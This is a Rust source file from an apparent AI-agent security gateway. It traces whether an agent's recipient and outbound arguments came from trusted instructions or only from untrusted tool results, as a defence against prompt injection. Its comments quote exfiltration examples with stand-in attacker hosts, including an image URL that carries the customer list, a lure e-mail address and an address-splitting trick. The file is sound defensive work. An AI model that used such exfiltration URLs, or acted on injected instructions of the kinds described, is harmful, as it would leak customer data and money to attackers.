//! Argument provenance: for a call's recipient arguments, whether each value appeared in the
//! run's trusted instructions (system and user messages through the LLM proxy, the task an
//! operator opened the run with) or only in untrusted content (tool results) — or nowhere.
//! Policies see it as `context.provenance`; the matching rules are `warden_policy::provenance`.
//!
//! Values are kept as hashes of (run, value), per run, in the store: a run's values cannot be
//! compared with another run's, and the table holds no value in clear.

use std::collections::BTreeSet;

use serde_json::Value;
use sha2::{Digest, Sha256};
use warden_policy::provenance::{
    ArgProvenance, MAX_TOKENS_PER_TEXT, arg_tokens, field_tokens, field_values, internal,
    standalone_number, standalone_numbers, tokens, traced, value_tokens,
};
use warden_policy::recipients::Internal;
use warden_types::{Action, ErrorCode, Tool, ToolKind, Trace};

use crate::{Gateway, Refusal};

/// The stored form of `token` in `run`.
fn hash(run: &str, token: &str) -> String {
    let mut h = Sha256::new();
    h.update(run.as_bytes());
    h.update([0x1f]);
    h.update(token.as_bytes());
    h.finalize()
        .iter()
        .take(16)
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn hashes(run: &str, tokens: BTreeSet<String>) -> Vec<String> {
    tokens
        .iter()
        .take(MAX_TOKENS_PER_TEXT)
        .map(|t| hash(run, t))
        .collect()
}

/// The hashed values `texts` name, in `run`.
pub(crate) fn text_values<'a>(run: &str, texts: impl IntoIterator<Item = &'a str>) -> Vec<String> {
    let mut all = BTreeSet::new();
    for t in texts {
        all.extend(tokens(t));
        if all.len() >= MAX_TOKENS_PER_TEXT {
            break;
        }
    }
    // Numbers in words are amounts someone gave ("refund 19 EUR").
    let numbers: Vec<String> = all
        .iter()
        .filter(|t| standalone_number(&Value::String((*t).clone())).is_some())
        .map(|t| number_key(t))
        .collect();
    let mut out = hashes(run, all);
    out.extend(numbers.iter().map(|k| hash(run, k)));
    out
}

/// Where a standalone number is kept: in a namespace no token reaches (a control character).
fn number_key(n: &str) -> String {
    format!("\u{1f}#{n}")
}

/// An empty string or list names nobody.
fn is_blank(v: &Value) -> bool {
    match v {
        Value::String(s) => s.trim().is_empty(),
        Value::Array(a) => a.iter().all(is_blank),
        _ => false,
    }
}

/// The stored form of `token` as the sender of something the run read: in a namespace no
/// token can reach (tokens never hold a control character), kept with the trusted values.
fn sender_hash(run: &str, token: &str) -> String {
    hash(run, &format!("\u{1f}sender\u{1f}{token}"))
}

/// The hashed values a tool result names, in `run`: `(trusted, untrusted)`. Values under the
/// tool's `trusted_fields` are trusted (a system of record's own data) when `vouched` (the
/// read's own keys were trusted: see [`Gateway::vouches`]); the rest is untrusted. Values under
/// its `sender_fields` are also recorded as senders.
pub(crate) fn result_values(
    run: &str,
    tool: &Tool,
    result: &Value,
    vouched: bool,
) -> (Vec<String>, Vec<String>) {
    let trusted = if tool.trusted_fields.is_empty() || !vouched {
        BTreeSet::new()
    } else {
        field_tokens(result, &tool.trusted_fields)
    };
    let untrusted: BTreeSet<String> = value_tokens(result)
        .into_iter()
        .filter(|t| !trusted.contains(t))
        .collect();
    // Standalone numbers (amounts), in their own namespace: trusted under vouched trusted
    // fields, untrusted elsewhere.
    let trusted_numbers: BTreeSet<String> = if tool.trusted_fields.is_empty() || !vouched {
        BTreeSet::new()
    } else {
        field_values(result, &tool.trusted_fields)
            .into_iter()
            .flat_map(standalone_numbers)
            .collect()
    };
    let untrusted_numbers: Vec<String> = standalone_numbers(result)
        .into_iter()
        .filter(|n| !trusted_numbers.contains(n))
        .map(|n| hash(run, &number_key(&n)))
        .collect();
    let mut trusted = hashes(run, trusted);
    trusted.extend(trusted_numbers.iter().map(|n| hash(run, &number_key(n))));
    if !tool.sender_fields.is_empty() {
        trusted.extend(
            field_tokens(result, &tool.sender_fields)
                .iter()
                .take(MAX_TOKENS_PER_TEXT)
                .map(|t| sender_hash(run, t)),
        );
    }
    let mut untrusted = hashes(run, untrusted);
    untrusted.extend(untrusted_numbers);
    (trusted, untrusted)
}

/// What a reply may not carry besides its recipients: personal data other than names, and
/// secrets.
fn reply_may_not_carry(kind: &str) -> bool {
    kind.starts_with("secret") || (kind.starts_with("pii.") && kind != "pii.person_name")
}

impl Gateway {
    /// Whether a read's trusted fields may vouch for its values: every value of its traced
    /// arguments (its keys: the customer, the ticket, the supplier) came from the user's
    /// instructions or another vouched record. A record an injected text pointed at (the
    /// attacker's own customer record) vouches for nothing. A store error vouches for nothing.
    pub(crate) async fn vouches(&self, tool: &Tool, action: &Action, org: &Internal) -> bool {
        if tool.trusted_fields.is_empty()
            || (tool.provenance.is_empty() && tool.recipients.is_empty())
        {
            return true;
        }
        match self.arg_provenance(tool, action, org, &[]).await {
            Ok(p) => p.untrusted.is_empty() && p.unknown.is_empty(),
            Err(_) => false,
        }
    }

    /// Where the values of `action`'s recipient arguments and traced arguments came from, in
    /// its run. The organisation's own addresses, URLs and counterparties are not asked about.
    /// `findings` are the inspection's findings in the arguments (`args/PATH: KIND`), for
    /// `reply`. A store error refuses the action (fail closed).
    pub(crate) async fn arg_provenance(
        &self,
        tool: &Tool,
        action: &Action,
        org: &Internal,
        findings: &[String],
    ) -> Result<ArgProvenance, Refusal> {
        let mut out = ArgProvenance::default();
        // A recipient is traced by its addresses (an e-mail) or its whole values (an IBAN, a
        // counterparty of another channel), and must name at least one; a traced argument only
        // by the values its trace picks (the links in a body may be none). Every other
        // argument of a call that is not a read is traced for where data or money can go: a
        // URL (`https://attacker.example/p.png?d=<the customer list>`), an e-mail address
        // ("write to billing@attacker.example to confirm your card"), an IBAN.
        let mut traced_args: Vec<(&String, Trace, bool)> = tool
            .recipients
            .iter()
            .map(|(arg, channel)| {
                let trace = match channel.as_str() {
                    warden_policy::recipients::EMAIL => Trace::Email,
                    _ => Trace::Any,
                };
                (arg, trace, true)
            })
            .chain(tool.provenance.iter().map(|(arg, t)| {
                // A call that is not a read traces at least where data or money can go.
                let t = match t {
                    Trace::Any => Trace::Any,
                    _ if tool.kind != ToolKind::Read => Trace::Reach,
                    other => *other,
                };
                (arg, t, t == Trace::Any)
            }))
            .collect();
        if tool.kind != ToolKind::Read
            && let Some(args) = action.arguments.as_object()
        {
            for arg in args.keys() {
                if !tool.recipients.contains_key(arg) && !tool.provenance.contains_key(arg) {
                    traced_args.push((arg, Trace::Reach, false));
                }
            }
        }
        let mut asked: Vec<(String, String)> = Vec::new();
        // For a recipient's values, also whether each was the sender of something read: (index
        // into `asked`, hash).
        let mut senders_asked: Vec<(usize, String)> = Vec::new();
        for (arg, trace, must_name) in traced_args {
            let Some(v) = action.arguments.get(arg) else {
                continue;
            };
            // A number argument (an amount) is asked for as a standalone number.
            if trace == Trace::Any
                && let Some(n) = standalone_number(v)
            {
                asked.push((arg.clone(), hash(&action.session, &number_key(&n))));
                continue;
            }
            let toks: Vec<String> = arg_tokens(v)
                .into_iter()
                .filter(|t| traced(t, trace))
                .collect();
            if toks.is_empty() && must_name && !v.is_null() && !is_blank(v) {
                // A value Warden cannot read as any token is nowhere to be found.
                out.unknown.insert(arg.clone());
            }
            let before = asked.len();
            for t in toks {
                if !internal(&t, org) {
                    asked.push((arg.clone(), hash(&action.session, &t)));
                    if tool.recipients.contains_key(arg) {
                        senders_asked.push((asked.len() - 1, sender_hash(&action.session, &t)));
                    }
                }
            }
            // A recipient that is external by `context.recipient.external`'s reading but names
            // no outside value here (`exfil.example!evil@groupany.example` cuts into an
            // internal-looking address and a domain) is nowhere to be found.
            if asked.len() == before
                && let Some(channel) = tool.recipients.get(arg)
            {
                let one = std::collections::BTreeMap::from([(arg.clone(), channel.clone())]);
                if warden_policy::recipients::any_external(&one, &action.arguments, org)
                    == Some(true)
                {
                    out.unknown.insert(arg.clone());
                }
            }
        }
        if asked.is_empty() {
            return Ok(out);
        }
        let n = asked.len();
        let seen = self
            .store
            .provenance_of(
                &action.agent,
                &action.session,
                asked
                    .iter()
                    .map(|(_, h)| h.clone())
                    .chain(senders_asked.iter().map(|(_, h)| h.clone()))
                    .collect(),
            )
            .await
            .map_err(|e| {
                tracing::error!(error = %e, "cannot read argument provenance; denying");
                Refusal::new(
                    ErrorCode::Denied,
                    "argument provenance is unavailable; denied to be safe",
                )
            })?;
        let mut sender = vec![false; n];
        for ((i, _), (trusted, _)) in senders_asked.iter().zip(seen.iter().skip(n)) {
            if let Some(s) = sender.get_mut(*i) {
                *s = *trusted;
            }
        }
        // A reply: every value not trusted is a sender, and no argument was unknown before the
        // lookup.
        let mut reply = out.unknown.is_empty() && out.untrusted.is_empty();
        // One reply answers one writer: a second sender in `cc` ("put me in copy when you
        // answer her", written by someone else in the same inbox) is not part of it.
        let mut senders = BTreeSet::new();
        for (((arg, h), (trusted, untrusted)), is_sender) in asked.into_iter().zip(seen).zip(sender)
        {
            if trusted {
                continue;
            }
            if is_sender {
                senders.insert(h);
            }
            reply &= is_sender;
            if untrusted {
                out.untrusted.insert(arg);
            } else {
                out.unknown.insert(arg);
            }
        }
        // Nor may the reply carry personal data (names aside) or a secret outside its
        // recipients: the customer list an injected e-mail asks for is not a reply.
        let carries = findings.iter().any(|f| {
            let Some((path, kind)) = f.strip_prefix("args/").and_then(|f| f.split_once(": "))
            else {
                return true;
            };
            let arg = path.split('/').next().unwrap_or_default();
            !tool.recipients.contains_key(arg) && reply_may_not_carry(kind)
        });
        out.reply = reply && senders.len() == 1 && !carries;
        Ok(out)
    }
}

#[cfg(test)]
mod tests {
    use super::hash;

    #[test]
    fn hashes_are_per_run() {
        assert_eq!(
            hash("run_a", "ada@example.net"),
            hash("run_a", "ada@example.net")
        );
        assert_ne!(
            hash("run_a", "ada@example.net"),
            hash("run_b", "ada@example.net")
        );
        assert_eq!(hash("r", "x").len(), 32);
    }
}
